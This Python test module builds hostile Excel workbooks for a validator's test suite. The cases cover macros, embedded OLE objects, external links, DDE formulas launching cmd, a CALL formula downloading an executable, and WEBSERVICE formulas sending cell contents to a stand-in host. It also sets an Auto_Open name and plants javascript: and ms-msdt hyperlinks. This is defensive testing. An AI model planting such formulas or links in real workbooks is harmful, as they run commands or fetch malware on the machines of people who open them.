"""Workbooks that would run, fetch or show something when they are opened: macros, objects, links, DDE, formulas."""

from __future__ import annotations

from collections.abc import Callable

from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.data.small import edited, filled
from tests.hostile.disguises import OLE
from tests.hostile.material import OFFICE, RELATIONS, TYPES, changed, family, parts

_FORMULAS = {
    "dde": "=cmd|' /C calc'!A0",
    "dde-with-plus": "+cmd|' /C calc'!A0",
    "webservice": '=WEBSERVICE("http://example.invalid/?"&A1)',
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
    "image": '=IMAGE("http://example.invalid/a.png")',
    "rtd": '=RTD("x",,"y")',
    "call": '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.invalid","a.exe",0,0)',
    "other-book": "='[1]Sheet1'!A1",
    "other-path": "='\\\\server\\share\\[a.xlsx]Sheet1'!A1",
    "circular": "=E11+1",
    "name": "=外部名称",
}


def _relation(
    kind: str, target: str, *, mode: str = "External", part: str = RELATIONS
) -> Callable[[], bytes]:
    line = f'<Relationship Id="rIdX" Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return lambda: changed(
        {part: parts()[RELATIONS].replace(b"</Relationships>", line.encode() + b"</Relationships>")}
    )


def _type(content_type: str) -> Callable[[], bytes]:
    line = f'<Override PartName="/xl/x.bin" ContentType="application/{content_type}"/></Types>'
    return lambda: changed({TYPES: parts()[TYPES].replace(b"</Types>", line.encode()), "xl/x.bin": b"x"})


def _part(name: str, content: bytes = b"<x/>") -> Callable[[], bytes]:
    return lambda: changed({name: content})


def _typed(formula: str) -> Callable[[], bytes]:
    """A formula in the cell of a count, which nothing has computed."""
    return lambda: edited(lambda book: book["自评表"].__setitem__("E11", formula))


def _as_text(formula: str) -> Callable[[], bytes]:
    return lambda: filled({"T19-05": {"value": formula, "evidence": formula, "note": formula}})


def _rule() -> bytes:
    def edit(book):
        book["自评表"].conditional_formatting.add(
            "E6", FormulaRule(['WEBSERVICE("http://example.invalid")=""'])
        )
        check = DataValidation(type="custom", formula1="cmd|' /C calc'!A0")
        check.add("E7")
        book["自评表"].add_data_validation(check)
        book.defined_names["_xlnm.Auto_Open"] = DefinedName("_xlnm.Auto_Open", attr_text="'自评表'!$A$1")

    return edited(edit, filled({"T19-01": {"value": "大概有"}}))


def _link(target: str) -> Callable[[], bytes]:
    def edit(book):
        book["自评表"]["I6"].hyperlink = target

    return lambda: edited(edit)


MACROS = family(
    "macro",
    {
        "vba": _part("xl/vbaProject.bin", OLE),
        "vba-elsewhere": _part("xl/theme/other.bin", OLE + "_VBA_PROJECT".encode("utf-16-le")),
        "vba-as-picture": _part("xl/media/image1.png", OLE + "_VBA_PROJECT".encode("utf-16-le")),
        "vba-in-capitals": _part("XL/VBAPROJECT.BIN"),
        "signature": _part("xl/vbaProjectSignature.bin"),
        "excel-4": _part("xl/macrosheets/sheet1.xml"),
        "excel-4-elsewhere": _type("vnd.ms-excel.macrosheet+xml"),
        "dialog": _part("xl/dialogsheets/sheet1.xml"),
        "by-relation": _relation("vbaProject", "theme.bin", mode="Internal"),
        "by-type": _type("vnd.ms-office.vbaProject"),
    },
    "macro-workbook",
)
OBJECTS = family(
    "object",
    {
        "ole": _part("xl/embeddings/oleObject1.bin", OLE),
        "ole-as-picture": _part("xl/media/image1.emf", OLE),
        "package": _part("xl/embeddings/文档.docx", b"PK\x03\x04"),
        "activex": _part("xl/activeX/activeX1.xml"),
        "control": _relation("control", "x.xml", mode="Internal"),
        "addin": _part("xl/webextensions/taskpanes.xml"),
    },
    "embedded-objects",
)
LINKS = family(
    "link",
    {
        "other-book": _part("xl/externalLinks/externalLink1.xml"),
        "dde": _part("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'),
        "path": _relation("externalLinkPath", "file:///c:/a.xlsx"),
        "picture": _relation("image", "http://example.invalid/a.png"),
        "template": _relation("attachedTemplate", "http://example.invalid/a.dotm"),
        "frame": _relation("frame", "http://example.invalid/"),
        "ole": _relation("oleObject", "http://example.invalid/a.hta"),
        "connections": _part("xl/connections.xml"),
        "query": _part("xl/queryTables/queryTable1.xml"),
        "realtime": _part("xl/volatileDependencies.xml"),
        "made-up": _relation("whatever", "\\\\server\\share\\x"),
    },
    "external-links", "embedded-objects",
)  # fmt: skip
FORMULAS = family("formula", {name: _typed(text) for name, text in _FORMULAS.items()}, "formula-without-value", "not-a-number")  # fmt: skip
FORMULA_TEXTS = family("formula-text", {name: _as_text(text) for name, text in _FORMULAS.items()}, "formula-without-value", "not-a-number")  # fmt: skip
RULES = family("rule", {"rules": _rule}, "not-yes-no")
HYPERLINKS = family(
    "hyperlink",
    {
        "web": _link("https://example.invalid/a"),
        "script": _link("javascript:alert(1)"),
        "share": _link("file://server/share/a.exe"),
        "program": _link("ms-msdt:/id PCWDiagnostic"),
    },
)

CASES = [*MACROS, *OBJECTS, *LINKS, *FORMULAS, *FORMULA_TEXTS, *RULES, *HYPERLINKS]
